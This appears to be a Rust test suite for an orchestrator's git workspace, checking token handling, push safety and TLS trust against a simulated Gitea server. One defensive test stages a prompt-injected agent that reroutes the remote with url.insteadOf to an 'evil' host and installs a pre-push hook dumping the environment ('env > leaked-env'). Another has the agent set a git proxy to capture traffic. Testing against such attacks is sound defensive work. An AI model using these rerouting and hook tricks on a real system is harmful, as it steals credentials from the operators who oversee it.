//! `GitWorkspace` against `GiteaSim`'s git smart HTTP: fetch and push with the token in a header.

use std::time::Duration;

use orch_core::domain::Agent;
use orch_core::ids::{BranchName, RepoSlug, WorkItemId};
use orch_core::ports::{Workspace, WorkspaceError, WorktreeSpec};
use orch_git::{GitConfig, GitWorkspace};
use orch_sim::gitea::GiteaSim;
use orch_sim::tls::{TestCa, TlsFront};

const TOKEN: &str = "gitea-sim-token-4f1d";
const GIT_TIMEOUT: Duration = Duration::from_secs(60);

fn spec() -> WorktreeSpec {
    let work_item = WorkItemId::parse("ET-101").expect("work item");
    WorktreeSpec {
        repo: RepoSlug::new("acme/widgets").expect("repo"),
        base_branch: BranchName::new("main").expect("base"),
        branch: BranchName::for_work_item(&work_item, "Over HTTP"),
        work_item,
    }
}

fn workspace(dir: &std::path::Path, sim: &GiteaSim, token: &str) -> GitWorkspace {
    let mut config = GitConfig::new(dir.join("repos"), sim.base_url());
    config.token = Some(token.to_owned());
    config.command_timeout = GIT_TIMEOUT;
    GitWorkspace::new(config).expect("workspace")
}

#[tokio::test]
async fn a_push_over_http_reaches_gitea_sim_with_the_token_only_in_a_header() {
    let sim = GiteaSim::start_with_token(TOKEN).await.expect("sim");
    sim.create_repo("acme", "widgets").await.expect("repo");
    let dir = tempfile::tempdir().expect("temp dir");
    let workspace = workspace(dir.path(), &sim, TOKEN);
    let spec = spec();

    let prepared = workspace
        .prepare(&spec, Agent::Developer)
        .await
        .expect("prepare");
    std::fs::write(prepared.path.join("http.md"), "over http\n").expect("write");
    workspace
        .commit_leftovers(&spec, "ET-101: over http")
        .await
        .expect("commit");
    let pushed = workspace.push(&spec).await.expect("push");

    let tip = sim
        .branch_tip("acme/widgets", spec.branch.as_str())
        .await
        .expect("tip");
    assert_eq!(tip.as_deref(), Some(pushed.as_str()));
    let requests = sim.git_requests();
    assert!(
        requests
            .iter()
            .any(|request| request.uri.ends_with("/git-receive-pack")),
        "{requests:?}"
    );
    for request in &requests {
        assert_eq!(
            request.header("authorization"),
            Some(format!("token {TOKEN}").as_str()),
            "{request:?}"
        );
        assert!(!request.uri.contains(TOKEN), "{request:?}");
    }
}

#[tokio::test]
async fn a_wrong_token_is_unauthorized_and_not_echoed() {
    let sim = GiteaSim::start_with_token(TOKEN).await.expect("sim");
    sim.create_repo("acme", "widgets").await.expect("repo");
    let dir = tempfile::tempdir().expect("temp dir");
    let workspace = workspace(dir.path(), &sim, "not-the-token");

    let err = workspace
        .prepare(&spec(), Agent::Analyst)
        .await
        .expect_err("refused");
    assert!(matches!(err, WorkspaceError::Unauthorized(_)), "{err}");
    assert!(!err.to_string().contains("not-the-token"), "{err}");
}

/// What an agent in the worktree can do to the config it shares with the mirror.
fn agent_git(worktree: &std::path::Path, args: &[&str]) {
    let status = std::process::Command::new("git")
        .args(args)
        .current_dir(worktree)
        .status()
        .expect("git runs");
    assert!(status.success(), "git {args:?}");
}

#[tokio::test]
async fn an_agent_rerouting_the_remote_or_adding_hooks_never_gets_the_token() {
    let sim = GiteaSim::start_with_token(TOKEN).await.expect("sim");
    sim.create_repo("acme", "widgets").await.expect("repo");
    let evil = GiteaSim::start_with_token("evil-token")
        .await
        .expect("evil sim");
    evil.create_repo("acme", "widgets").await.expect("repo");
    let dir = tempfile::tempdir().expect("temp dir");
    let workspace = workspace(dir.path(), &sim, TOKEN);
    let spec = spec();
    let prepared = workspace
        .prepare(&spec, Agent::Developer)
        .await
        .expect("prepare");

    // A prompt-injected agent reroutes orch's remote and installs a hook that would print
    // the environment (the token's config variable included).
    let hooks = dir.path().join("evil-hooks");
    std::fs::create_dir_all(&hooks).expect("hooks dir");
    let leak = dir.path().join("leaked-env");
    let hook = hooks.join("pre-push");
    std::fs::write(&hook, format!("#!/bin/sh\nenv > {}\n", leak.display())).expect("hook");
    std::process::Command::new("chmod")
        .arg("+x")
        .arg(&hook)
        .status()
        .expect("chmod");
    let rewrite = format!("url.{}/.insteadOf", evil.base_url());
    agent_git(
        &prepared.path,
        &["config", &rewrite, &format!("{}/", sim.base_url())],
    );
    agent_git(
        &prepared.path,
        &["config", "core.hooksPath", hooks.to_str().expect("utf-8")],
    );
    std::fs::write(prepared.path.join("evil.md"), "changes\n").expect("write");
    workspace
        .commit_leftovers(&spec, "ET-101: evil")
        .await
        .expect("commit");

    let _ = workspace.push(&spec).await;
    for request in evil.git_requests() {
        let authorization = request.header("authorization").unwrap_or_default();
        assert!(
            !authorization.contains(TOKEN),
            "the token reached the rerouted host: {request:?}"
        );
    }
    assert!(
        !leak.exists(),
        "a hook the agent installed ran during orch's push"
    );
}

#[tokio::test]
async fn commits_a_person_pushed_to_the_task_branch_are_built_on_and_never_force_pushed_away() {
    let sim = GiteaSim::start_with_token(TOKEN).await.expect("sim");
    sim.create_repo("acme", "widgets").await.expect("repo");
    let dir = tempfile::tempdir().expect("temp dir");
    let workspace = workspace(dir.path(), &sim, TOKEN);
    let spec = spec();
    let prepared = workspace
        .prepare(&spec, Agent::Developer)
        .await
        .expect("prepare");
    std::fs::write(prepared.path.join("orch.md"), "orch's change\n").expect("write");
    workspace
        .commit_leftovers(&spec, "ET-101: orch")
        .await
        .expect("commit");
    workspace.push(&spec).await.expect("push");

    // A person adds a commit on top of orch's and pushes it.
    let branch = spec.branch.as_str();
    let (person, theirs) = person_pushes(&sim, branch, "a person's fix\n", "a person's fix").await;

    // The next agent run starts from the person's commit, and orch's push keeps it.
    let prepared = workspace
        .prepare(&spec, Agent::Developer)
        .await
        .expect("prepare again");
    assert!(
        prepared.path.join("person.md").exists(),
        "the worktree has the person's commit"
    );
    std::fs::write(prepared.path.join("orch2.md"), "more\n").expect("write");
    workspace
        .commit_leftovers(&spec, "ET-101: more")
        .await
        .expect("commit");
    let pushed = workspace.push(&spec).await.expect("push");
    let tip = sim.branch_tip("acme/widgets", branch).await.expect("tip");
    assert_eq!(tip.as_deref(), Some(pushed.as_str()));
    person
        .git(&["fetch", "--quiet", "origin", branch])
        .await
        .expect("fetch");
    person
        .git(&["merge-base", "--is-ancestor", &theirs, "FETCH_HEAD"])
        .await
        .expect("the person's commit is still on the branch");
}

#[tokio::test]
async fn an_agents_proxy_setting_is_wiped_before_orch_fetches_or_pushes() {
    use std::sync::{Arc, Mutex};
    let sim = GiteaSim::start_with_token(TOKEN).await.expect("sim");
    sim.create_repo("acme", "widgets").await.expect("repo");
    let seen: Arc<Mutex<Vec<String>>> = Arc::default();
    let recorder = seen.clone();
    let proxy =
        orch_sim::server::SimServer::start(orch_sim::server::sync_handler(move |request| {
            let headers = format!("{:?}", request.headers());
            recorder.lock().expect("lock").push(headers);
            orch_sim::server::empty(502).into()
        }))
        .await
        .expect("proxy");
    let dir = tempfile::tempdir().expect("temp dir");
    let workspace = workspace(dir.path(), &sim, TOKEN);
    let spec = spec();
    let prepared = workspace
        .prepare(&spec, Agent::Developer)
        .await
        .expect("prepare");
    let key = format!("http.{}/.proxy", sim.base_url());
    agent_git(&prepared.path, &["config", &key, &proxy.base_url()]);
    std::fs::write(prepared.path.join("p.md"), "change\n").expect("write");
    workspace
        .commit_leftovers(&spec, "ET-101: p")
        .await
        .expect("commit");
    workspace
        .push(&spec)
        .await
        .expect("the push goes straight to gitea");
    workspace
        .prepare(&spec, Agent::Reviewer)
        .await
        .expect("the fetch too");
    assert!(
        seen.lock().expect("lock").is_empty(),
        "the agent's proxy saw orch's traffic"
    );
}

#[tokio::test]
async fn a_push_over_commits_someone_pushed_meanwhile_fails_and_keeps_them() {
    let sim = GiteaSim::start_with_token(TOKEN).await.expect("sim");
    sim.create_repo("acme", "widgets").await.expect("repo");
    let dir = tempfile::tempdir().expect("temp dir");
    let workspace = workspace(dir.path(), &sim, TOKEN);
    let spec = spec();
    let branch = spec.branch.as_str();
    let prepared = workspace
        .prepare(&spec, Agent::Developer)
        .await
        .expect("prepare");
    std::fs::write(prepared.path.join("a.md"), "orch\n").expect("write");
    workspace
        .commit_leftovers(&spec, "ET-101: a")
        .await
        .expect("commit");
    workspace.push(&spec).await.expect("push");

    // The developer works again; meanwhile a person pushes to the same branch.
    let prepared = workspace
        .prepare(&spec, Agent::Developer)
        .await
        .expect("prepare");
    let (_person, theirs) = person_pushes(&sim, branch, "mine\n", "a person's commit").await;
    std::fs::write(prepared.path.join("b.md"), "orch again\n").expect("write");
    workspace
        .commit_leftovers(&spec, "ET-101: b")
        .await
        .expect("commit");

    let err = workspace
        .push(&spec)
        .await
        .expect_err("the push must not drop the person's commit");
    assert!(matches!(err, WorkspaceError::Conflict(_)), "{err}");
    let tip = sim.branch_tip("acme/widgets", branch).await.expect("tip");
    assert_eq!(tip.as_deref(), Some(theirs.as_str()));
}

/// A person clones the repository, adds a commit on top of `branch` and pushes it; returns
/// the clone and the new commit.
async fn person_pushes(
    sim: &GiteaSim,
    branch: &str,
    content: &str,
    message: &str,
) -> (orch_sim::gitea::LocalClone, String) {
    let person = orch_sim::gitea::LocalClone::new(sim, "acme/widgets")
        .await
        .expect("clone");
    person
        .git(&["fetch", "--quiet", "origin", branch])
        .await
        .expect("fetch");
    person
        .checkout_new(branch, "FETCH_HEAD")
        .await
        .expect("checkout");
    let theirs = person
        .commit_file("person.md", content, message)
        .await
        .expect("commit");
    person
        .push(&format!("{branch}:{branch}"))
        .await
        .expect("push");
    (person, theirs)
}

#[tokio::test]
async fn git_over_https_trusts_a_private_ca_only_through_ca_file() {
    let sim = GiteaSim::start_with_token(TOKEN).await.expect("sim");
    sim.create_repo("acme", "widgets").await.expect("repo");
    let ca = TestCa::new().expect("a test CA");
    let front = TlsFront::start(&sim.base_url(), &ca)
        .await
        .expect("tls front");
    let dir = tempfile::tempdir().expect("temp dir");
    let ca_file = dir.path().join("ca.pem");
    std::fs::write(&ca_file, ca.ca_pem()).expect("ca file");
    let https_workspace = |repos: &str, ca_file: Option<std::path::PathBuf>| {
        let mut config = GitConfig::new(dir.path().join(repos), front.base_url());
        config.token = Some(TOKEN.to_owned());
        config.command_timeout = GIT_TIMEOUT;
        config.ca_file = ca_file;
        GitWorkspace::new(config).expect("workspace")
    };
    let spec = spec();

    let untrusting = https_workspace("untrusting", None);
    let err = untrusting
        .prepare(&spec, Agent::Developer)
        .await
        .expect_err("the private CA is not trusted");
    assert!(err.to_string().contains("certificate"), "{err}");
    assert!(!err.to_string().contains(TOKEN), "{err}");

    let trusting = https_workspace("trusting", Some(ca_file));
    let prepared = trusting
        .prepare(&spec, Agent::Developer)
        .await
        .expect("prepare over https");
    std::fs::write(prepared.path.join("https.md"), "over https\n").expect("write");
    trusting
        .commit_leftovers(&spec, "ET-101: over https")
        .await
        .expect("commit");
    let pushed = trusting.push(&spec).await.expect("push over https");
    let tip = sim
        .branch_tip("acme/widgets", spec.branch.as_str())
        .await
        .expect("tip");
    assert_eq!(tip.as_deref(), Some(pushed.as_str()));
}
